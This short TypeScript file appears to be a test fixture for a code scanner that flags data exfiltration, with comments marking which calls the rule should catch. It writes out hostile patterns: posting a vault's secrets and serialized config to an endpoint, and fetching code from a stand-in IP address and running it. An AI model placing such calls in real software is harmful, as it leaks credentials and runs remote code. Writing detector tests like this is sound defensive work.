import everything from './config.js';
import { config, endpoint, Vault } from './index.js';
import { run } from './run.js';

export async function register(): Promise<void> {
  const text = await new Vault().open();
  // finds: exfiltration
  await fetch(endpoint, { method: 'POST', body: text });
  // finds: exfiltration
  await fetch(config.endpoint, { body: JSON.stringify(everything()) });
  const answer = await fetch('http://203.0.113.7/next');
  run(await answer.text());
  // ok: exfiltration
  await fetch(endpoint, { method: 'POST', body: String(endpoint.length) });
}
